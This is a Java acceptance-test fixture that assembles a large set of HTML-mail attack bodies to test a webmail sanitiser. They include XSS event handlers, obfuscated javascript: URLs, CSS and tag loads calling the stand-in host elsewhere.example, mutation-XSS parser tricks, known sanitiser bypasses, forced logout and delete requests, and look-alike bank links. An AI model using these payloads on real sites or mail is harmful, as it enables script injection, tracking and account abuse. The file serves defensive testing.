package org.tassis.acceptance;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Attacks on those who read HTML mail, written after what is publicly known of holes in sanitisers and
/// webmail programs. Each would be seen: the title of the page becomes `owned`, or something is asked of
/// `elsewhere.example`.
final class HtmlAttacks {
    private static final String RUN = "top.document.title='owned';parent.document.title='owned';alert('owned')";

    private HtmlAttacks() {}

    /// Bodies of HTML mail by what they try.
    static Map<String, String> html() {
        Map<String, String> all = new LinkedHashMap<>();
        all.put("handlers", handlers());
        all.put("schemes", schemes());
        all.put("styles", styles());
        all.put("loaders", loaders());
        int number = 0;
        for (String one : mutations()) {
            all.put("mutation " + ++number, one.replace("RUN", RUN));
        }
        number = 0;
        for (String one : holes()) {
            all.put("hole " + ++number, one.replace("RUN", RUN));
        }
        return all;
    }

    /// Something that happens by itself, or under the pointer.
    private static String handlers() {
        StringBuilder all = new StringBuilder();
        for (String tag : List.of(
                "img src=x",
                "svg",
                "body",
                "video src=x",
                "audio src=x",
                "input autofocus",
                "select autofocus",
                "details open",
                "marquee",
                "object data=x",
                "iframe",
                "math",
                "p tabindex=0 autofocus",
                "xss",
                "style",
                "link rel=stylesheet href=x",
                "source",
                "track src=x",
                "image src=x",
                "isindex type=image src=x",
                "keygen autofocus",
                "frameset",
                "a href=# autofocus")) {
            for (String handler :
                    List.of("onload", "onerror", "onfocus", "ontoggle", "onstart", "onanimationstart", "onbegin")) {
                all.append("<div><")
                        .append(tag)
                        .append(' ')
                        .append(handler)
                        .append("=\"")
                        .append(RUN)
                        .append("\">x</div>");
            }
        }
        for (String odd : List.of(
                "<img/src=x/onerror=%s>",
                "<img\nsrc=x\nonerror=%s>",
                "<img src=x onerror\n=%s>",
                "<img src='x'onerror=%s>",
                "<img \u0000src=x onerror=%s>",
                "<img src=x ONERROR=%s>",
                "<img src=x on\u0000error=%s>",
                "<img src=`x`onerror=%s>",
                "<<img src=x onerror=%s>",
                "<img src=x onerror=%s//",
                "</p onmouseover=%s>",
                "<a\u000chref=# onclick=%s>x</a>",
                "<!--><img src=x onerror=%s>-->",
                "<!--!><img src=x onerror=%s>--!>",
                "<?xml ?><img src=x onerror=%s>",
                "<![CDATA[<img src=x onerror=%s>]]>",
                "<%%<img src=x onerror=%s>")) {
            all.append("<div>").append(odd.formatted("\"" + RUN + "\"")).append("</div>");
        }
        return all.toString();
    }

    private static String schemes() {
        StringBuilder all = new StringBuilder();
        for (String scheme : List.of(
                "javascript:",
                "JaVaScRiPt:",
                "java\tscript:",
                "java\nscript:",
                "&#106;avascript:",
                "&#x6A;avascript&colon;",
                "javascript&#58;",
                "\u0001javascript:",
                " javascript:",
                "\u00a0javascript:",
                "vbscript:",
                "livescript:",
                "data:text/html,<script>",
                "data:text/html;base64,PHNjcmlwdD4=",
                "feed:javascript:",
                "view-source:x",
                "jar:https://elsewhere.example/x!/",
                "blob:https://elsewhere.example/1",
                "file:///etc/passwd",
                "javascript\u200b:",
                "intent://elsewhere.example#Intent;end",
                "ms-word:ofe|u|https://elsewhere.example/")) {
            for (String tag : List.of(
                    "<a href=\"%s\">x</a>",
                    "<img src=\"%s\">",
                    "<area href=\"%s\">",
                    "<form action=\"%s\"><button>x</button></form>",
                    "<button formaction=\"%s\">x</button>",
                    "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>",
                    "<math href=\"%s\">x</math>",
                    "<blockquote cite=\"%s\">x</blockquote>",
                    "<input type=image src=\"%s\">")) {
                all.append("<div>")
                        .append(tag.formatted(scheme + RUN.replace("'", "&#39;")))
                        .append("</div>");
            }
        }
        return all.toString();
    }

    private static String styles() {
        StringBuilder all = new StringBuilder();
        String there = "https://elsewhere.example/style";
        for (String style : List.of(
                "background:url(T)",
                "background:u\\72l(T)",
                "background:\\75\\72\\6c(T)",
                "background:url('T')",
                "background:URL(T)",
                "background:url/**/(T)",
                "background:/**/url(T)",
                "background-image:image-set('T' 1x)",
                "background-image:-webkit-image-set(url(T) 1x)",
                "list-style:url(T)",
                "list-style-image:url(T)",
                "border-image:url(T) 1",
                "content:url(T)",
                "cursor:url(T),auto",
                "mask:url(T)",
                "-webkit-mask-image:url(T)",
                "filter:url(T#x)",
                "clip-path:url(T#x)",
                "shape-outside:url(T)",
                "background:cross-fade(url(T),url(T),50%)",
                "--x:url(T);background:var(--x)",
                "background:url(//elsewhere.example/x)",
                "behavior:url(T)",
                "-moz-binding:url(T#x)",
                "width:expression(alert(1))",
                "position:fixed;top:0;left:0;width:100vw;height:100vh",
                "posi/**/tion:fixed",
                "position:fix\\65 d !important",
                "position:absolute;inset:0",
                "position:sticky;top:0",
                "background:url(https:/\\elsewhere.example/x)",
                "background:url(T",
                "color:red;}body{background:url(T)",
                "background:src('T')",
                "offset-path:url(T)",
                "font-family:'x';src:url(T)",
                "transform:url(T)")) {
            all.append("<div style=\"").append(style.replace("T", there)).append("\">x</div>");
        }
        for (String sheet : List.of(
                "@import url(T);",
                "@import 'T';",
                "@im\\port url(T);",
                "@font-face{font-family:a;src:url(T)}*{font-family:a}",
                "body{background:url(T)}",
                "p{background:u\\rl(T)}",
                "a[href^='h']{background:url(T)}",
                "*{}@import 'T';",
                "</style><img src=T>",
                "<!-- @import 'T'; -->",
                "@media all{*{background:url(T)}}",
                "@supports(display:block){p{background:url(T)}}",
                "@namespace url(T);",
                "@charset 'x';@import 'T';",
                "p{background:\\\nurl(T)}",
                "@layer x{p{background:url(T)}}",
                "@container (width>0){p{background:url(T)}}",
                "p{&::before{content:url(T)}}",
                "@property --x{syntax:'<url>';inherits:true;initial-value:url(T)}")) {
            all.append("<style>").append(sheet.replace("T", there)).append("</style>");
        }
        return all.toString();
    }

    /// What fetches, or leads away, without a script.
    private static String loaders() {
        StringBuilder all = new StringBuilder();
        for (String tag : List.of(
                "<link rel=stylesheet href=T>",
                "<link rel=prefetch href=T>",
                "<link rel=preload as=image href=T>",
                "<link rel=dns-prefetch href=T>",
                "<link rel=preconnect href=T>",
                "<link rel=icon href=T>",
                "<link rel=manifest href=T>",
                "<meta http-equiv=refresh content='0;url=T'>",
                "<meta http-equiv=set-cookie content=x=y>",
                "<meta http-equiv=content-security-policy content=\"default-src *\">",
                "<base href=T>",
                "<img src=T>",
                "<img srcset='T 1x'>",
                "<picture><source srcset=T><img src=x></picture>",
                "<video poster=T src=T autoplay></video>",
                "<audio src=T autoplay></audio>",
                "<object data=T></object>",
                "<embed src=T>",
                "<iframe src=T></iframe>",
                "<frameset><frame src=T></frameset>",
                "<table background=T><tr><td background=T>x</table>",
                "<body background=T>",
                "<input type=image src=T>",
                "<svg><image href=T /></svg>",
                "<svg><image xlink:href=T /></svg>",
                "<svg><filter id=f><feImage href=T /></filter></svg>",
                "<svg><use href=T#x /></svg>",
                "<svg><script href=T></script></svg>",
                "<svg><style>@import 'T'</style></svg>",
                "<script src=T></script>",
                "<applet code=T></applet>",
                "<bgsound src=T>",
                "<isindex action=T>",
                "<portal src=T></portal>",
                "<form action=T><input autofocus></form>",
                "<a href=x ping=T>x</a>",
                "<img src=x longdesc=T>",
                "<img lowsrc=T dynsrc=T>",
                "<html manifest=T>",
                "<template shadowrootmode=open><img src=T></template>",
                "<img src=\"//elsewhere.example/x\">",
                "<img src=\"\\\\elsewhere.example\\x\">",
                "<img src=\"https:elsewhere.example/x\">",
                "<track src=T>",
                "<math><mi xlink:href=T>x</mi></math>",
                "<svg><pattern><image href=T /></pattern></svg>",
                "<svg><cursor xlink:href=T /></svg>",
                "<svg><mpath href=T /></svg>",
                "<svg><linearGradient href=T#x /></svg>")) {
            all.append("<div>")
                    .append(tag.replace("T", "https://elsewhere.example/load"))
                    .append("</div>");
        }
        return all.toString();
    }

    /// Markup that one parser reads as harmless and the next one does not.
    private static List<String> mutations() {
        String bomb = "<img src=x onerror=RUN>";
        List<String> all = new ArrayList<>();
        for (String raw : List.of(
                "noscript",
                "noembed",
                "noframes",
                "xmp",
                "plaintext",
                "textarea",
                "title",
                "style",
                "iframe",
                "template",
                "listing")) {
            all.add("<" + raw + "><p title=\"</" + raw + ">" + bomb + "\">x</p></" + raw + ">");
        }
        for (String foreign : List.of("svg", "math")) {
            all.add("<" + foreign + "></p><style><a id=\"</style>" + bomb + "\">");
            all.add("<" + foreign + "><style><!--</style>" + bomb + "--></style></" + foreign + ">");
            all.add("<" + foreign + "><title><style><img title=\"</style>" + bomb + "\"></title></" + foreign + ">");
            all.add("<" + foreign + "><![CDATA[><img title=\"]]>" + bomb + "\">]]></" + foreign + ">");
        }
        all.add("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">");
        all.add("<math><mtext><table><mglyph><style><math href=x>" + bomb + "</style>");
        all.add("<form><math><mtext></form><form><mglyph><style></math>" + bomb);
        all.add("<math><annotation-xml encoding=\"text/html\"><style>" + bomb + "</style></annotation-xml></math>");
        all.add("<math><mi><mglyph><style><!--</style><a title=\"-->" + bomb + "\">");
        all.add("<svg><foreignObject><style><!--</style><p title=\"-->" + bomb + "\"></foreignObject></svg>");
        all.add("<svg><desc><table><thead><style></desc><title></title><textarea></style></textarea><a title=\"</style>"
                + bomb + "\">");
        all.add("<select><style></select>" + bomb + "</style></select>");
        all.add("<select><option><style></option></select><b><" + bomb + "></b></style>");
        all.add("<table><td><select><input><img title=\"</select>" + bomb + "\"></table>");
        all.add("<a><table><a title=\"</a>" + bomb + "\"></table></a>");
        all.add("<p><svg><p><style><g title=\"</style>" + bomb + "\"></p></svg></p>");
        all.add("<div>".repeat(600) + "<svg><style><a title=\"</style>" + bomb + "\">" + "</div>".repeat(600));
        all.add("<b><i>".repeat(300) + "<math><mtext><mglyph><style></b>" + bomb + "</style>");
        all.add("<table>".repeat(120) + bomb);
        all.add("<dl><dt><svg><dd><style><i title=\"</style>" + bomb + "\">");
        all.add("<ruby><rt><math><rp><style><i title=\"</style>" + bomb + "\">");
        all.add("<font color=\"&quot;>" + bomb + "\">x</font><font face='\">" + bomb + "'>y</font>");
        all.add("<p title='\"><img src=x onerror=RUN>'>x</p><img alt=\"`><img src=x onerror=RUN>`\">");
        all.add("<p title=\"&lt;/p&gt;&lt;img src=x onerror=RUN&gt;\">x</p>&lt;img src=x onerror=RUN&gt;");
        all.add("<scr<script>ipt>RUN</scr</script>ipt><<script>script>RUN<</script>/script>");
        all.add("<script>RUN</script\n><script\u000c>RUN</script><script/x>RUN</script><ſcript>RUN</ſcript>");
        all.add("\u003cscript>RUN\u003c/script>+ADw-script+AD4-RUN+ADw-/script+AD4-");
        return all;
    }

    /// What was found, and mended, in programs of this kind.
    private static List<String> holes() {
        String bomb = "<img src=x onerror=RUN>";
        return List.of(
                // attributes put together again in the wrong order
                "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:x onanimationstart=RUN foo=bar\">x",
                "<body bgcolor=\"x\" text='\" onload=RUN '>x",
                // animations that set what may not be set
                "<svg><a><animate attributeName=\"href\" values=\"javascript:RUN\"/><text y=20>x</text></a></svg>",
                "<svg><a><animate attributeName=\"href \" values=\"javascript:RUN\"/><text y=20>x</text></a></svg>",
                "<svg><a><set attributeName=\"xlink:href\" to=\"javascript:RUN\"/><text y=20>x</text></a></svg>",
                "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
                "<svg><animateTransform onbegin=RUN attributeName=x></svg>",
                // documents within documents
                "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIGlkPSd4Jz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x\"></svg>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">RUN</x:script></svg>",
                "<x:html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>RUN</x:script></x:html>",
                "<object data=\"data:text/html,<script>RUN</script>\"></object><embed src=\"data:image/svg+xml,<svg onload=RUN>\">",
                "<iframe srcdoc=\"<script>RUN</script>\"></iframe><iframe src=\"javascript:RUN\"></iframe>",
                // comments of style sheets, and what is within them
                "<style><!--<img src=\"--></style>" + bomb + "\"></style>",
                "<style>*/}" + bomb + "</style><div style=\"/*</div>" + bomb + "*/\">x</div>",
                "<div style=\"position:/**/fixed;/*\" title=\"*/onmouseover=RUN\">x</div>",
                // names that a page of ours uses
                "<img name=getElementById><form id=content><input name=attributes></form><a id=folders></a><a id=list></a>",
                "<a class=\"tassis-target\" id=toasts data-toast hx-get=/webmail/folders hx-trigger=load>x</a>",
                "<div hx-post=/webmail/do hx-trigger=load hx-vals='{}'>x</div><form method=post action=/logout><button autofocus>x</button></form>",
                "<a href=\"/logout\">x</a><img src=\"/logout\"><img src=\"/webmail/do?do=delete\">",
                // conditional comments, processing instructions, entities
                "<!--[if gte mso 9]><xml><script>RUN</script></xml><![endif]--><![if !mso]>" + bomb + "<![endif]>",
                "<!DOCTYPE x [<!ENTITY e '" + bomb + "'>]><p>&e;</p>",
                "<?php echo 1 ?>" + bomb + "<?import namespace=t implementation='#default#time2'>",
                // links that show another target
                "<a href=\"https://elsewhere.example/\">https://bank.example/login</a>",
                "<a href=\"https://bank.example@elsewhere.example/\">bank</a>",
                "<a href=\"https://elsewhere.example/\" target=_top rel=opener>x</a><a href=\"https://elsewhere.example\" target=_parent>y</a>");
    }

    /// Bodies of plain text.
    static List<String> plain() {
        return List.of(
                "http://a.example/\"onmouseover=\"" + RUN + "\"",
                "https://a.example/'><img src=x onerror=" + RUN + ">",
                "<script>" + RUN + "</script> <img src=x onerror=" + RUN + ">",
                "See [1] and [<script>" + RUN + "</script>]\n\n[1]: https://a.example/\n[<script>" + RUN
                        + "</script>]: https://b.example/",
                "[x](javascript:" + RUN + ") ![y](https://elsewhere.example/p.png)",
                "mailto:a@b.example?subject=\"><img src=x onerror=" + RUN + ">",
                "> <b>quote</b>\n> <img src=x onerror=" + RUN + ">\n\nhttps://a.example/<svg/onload=" + RUN + ">",
                "javascript:" + RUN + " data:text/html,<script>" + RUN + "</script>");
    }
}
